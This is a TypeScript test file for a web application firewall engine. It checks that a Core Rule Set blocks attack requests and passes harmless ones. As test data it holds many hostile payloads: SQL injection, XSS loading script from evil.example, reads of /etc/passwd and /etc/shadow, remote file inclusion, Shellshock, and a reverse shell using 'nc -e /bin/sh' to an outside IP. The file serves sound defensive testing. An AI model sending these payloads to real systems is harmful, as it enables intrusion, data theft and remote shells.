import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileRules } from './engine.ts';
import { coreRuleSet, coreRuleSetMissing } from './testing/core-rule-set.ts';
import { type Exchange, exchange } from './testing/exchange.ts';
import { compilePlainly } from './testing/plain.ts';

const skip = coreRuleSetMissing ?? false;

const browser = [
  ...['Host', 'shop.example'],
  ...['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0'],
  ...['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ...['Accept-Language', 'en-US,en;q=0.5'],
  ...['Accept-Encoding', 'gzip, deflate, br'],
  ...['Connection', 'keep-alive'],
];

const get = (target: string, ...fields: string[]): Exchange => ({ target, fields: [...browser, ...fields] });
const argument = (value: string): Exchange => get(`/search?q=${encodeURIComponent(value)}`);

function post(type: string, body: string, target = '/orders'): Exchange {
  return { target, body, fields: [...browser, 'Content-Type', type, 'Content-Length', String(body.length)] };
}

const form = (body: string): Exchange => post('application/x-www-form-urlencoded', body);
const json = (value: unknown): Exchange => post('application/json', JSON.stringify(value));

/** A rule that must match, of the family that the attack belongs to. */
const attacks: readonly (readonly [family: string, Exchange])[] = [
  ['942', argument("1' or 1=1-- ")],
  ['942', argument("' UNION SELECT username, password FROM users--")],
  ['942', argument('1; DROP TABLE users')],
  ['942', argument('1 AND SLEEP(5)')],
  ['942', argument("admin'/**/or/**/'1'='1")],
  ['942', form("name=x'+AND+extractvalue(1,concat(0x7e,version()))--+")],
  ['942', json({ user: { name: "' or ''='" } })],
  ['942', get('/', 'Cookie', "id=1'%20or%201=1--%20")],
  ['941', argument('<script>alert(1)</script>')],
  ['941', argument('<img src=x onerror=alert(1)>')],
  ['941', argument('javascript:alert(document.cookie)')],
  ['941', argument('<svg/onload=alert(1)>')],
  ['941', form('comment=%3Ciframe+src%3D%22javascript%3Aalert(1)%22%3E')],
  ['941', json({ comment: '<script src=//evil.example></script>' })],
  ['941', get('/', 'Referer', 'http://x.example/<script>alert(1)</script>')],
  ['930', get('/download?file=../../../../etc/passwd')],
  ['930', get('/download?file=..%2f..%2f..%2fetc%2fshadow')],
  ['930', get('/.git/config')],
  ['930', argument('/proc/self/environ')],
  ['931', get('/page?url=http://203.0.113.9/shell.txt')],
  ['931', get('/page?include=http://evil.example/x.php?')],
  ['932', argument(';cat /etc/passwd')],
  ['932', argument('$(whoami)')],
  ['932', argument('| nc -e /bin/sh 203.0.113.9 4444')],
  ['932', get('/', 'User-Agent', '() { :;}; /bin/bash -c "id"')],
  ['932', form('cmd=powershell.exe+-enc+SQBFAFgA')],
  ['933', argument('<?php system($_GET["c"]); ?>')],
  ['933', argument('php://input')],
  ['933', form('f=base64_decode(%22aWQ=%22)')],
  ['934', argument("_$$ND_FUNC$$_function(){ require('child_process') }()")],
  ['944', argument('java.lang.Runtime.getRuntime().exec("id")')],
  ['921', argument('x\r\nSet-Cookie: a=b')],
  ['943', get('/?PHPSESSID=1', 'Referer', 'http://evil.example/')],
  ['913', { target: '/', fields: ['Host', 'shop.example', 'User-Agent', 'sqlmap/1.7', 'Accept', '*/*'] }],
  ['920', { target: '/', fields: ['User-Agent', 'x', 'Accept', '*/*'] }],
  ['920', get('/?a=%00')],
  ['911', { ...get('/'), method: 'TRACE' }],
];

const innocents: readonly Exchange[] = [
  get('/'),
  get('/books/42?page=2&sort=title'),
  get('/search?q=the+go+programming+language'),
  get('/search?q=O%27Brien'),
  get('/search?q=caf%C3%A9+%26+cr%C3%A8me'),
  get('/assets/app.3f2a1c.js', 'Referer', 'https://shop.example/'),
  get('/', 'Cookie', 'session=1f3870be274f6c49b3e31a0c6728957f; theme=dark'),
  argument('2026-11-27T06:00:00Z'),
  argument('alice@example.org'),
  argument('3.14159'),
  form('name=Alice+Smith&email=alice%40example.org&age=42'),
  form('message=Dear+Sir%2C+thank+you+for+your+letter.+Yours%2C+Alice'),
  json({ id: 4711, title: 'The Go Programming Language', price: 34.99, tags: ['programming', 'go'] }),
  json({ address: { street: '12 High Street', city: 'Dublin', zip: 'D02 XE80' }, inStock: true }),
  json([1, 2, 3, null, 'a']),
];

const options = { now: () => 1_000_000, budget: 60_000 };

test('the Core Rule Set stops attacks, each for what it is', { skip }, () => {
  const engine = compileRules(coreRuleSet(), options);
  for (const [family, request] of attacks) {
    const { outcome, matches, fault } = exchange(engine, request);
    assert.equal(fault, undefined);
    const what = `${request.target} ${request.body ?? ''} ${matches.map(({ ruleId }) => ruleId).join()}`;
    assert.ok(
      matches.some(({ ruleId }) => String(ruleId).startsWith(family)),
      `${family}: ${what}`,
    );
    if (family !== '920') assert.equal(outcome.kind, 'deny', what);
  }
});

test('the Core Rule Set lets the innocent pass, without a match', { skip }, () => {
  const engine = compileRules(coreRuleSet(), options);
  for (const request of innocents) {
    const { outcome, matches } = exchange(engine, request);
    assert.deepEqual([outcome.kind, matches], ['pass', []], `${request.target} ${request.body ?? ''}`);
  }
});

for (const level of [1, 4])
  test(`the Core Rule Set, at paranoia level ${level}, finds what it finds evaluated plainly`, {
    skip,
  }, () => {
    const set = coreRuleSet(
      `SecAction "id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=${level}"`,
    );
    const filtered = compileRules(set, options);
    const plain = compilePlainly(set, options);
    for (const request of [...innocents, ...attacks.map(([, attack]) => attack)])
      assert.deepEqual(seen(filtered, request), seen(plain, request), JSON.stringify(request));
  });

function seen(engine: ReturnType<typeof compileRules>, request: Exchange) {
  const response = { fields: ['Content-Type', 'text/html'], body: 'You have an error in your SQL syntax' };
  const { outcome, matches, matchCount, members, fault } = exchange(engine, { ...request, response });
  return { outcome, matches, matchCount, members, fault };
}
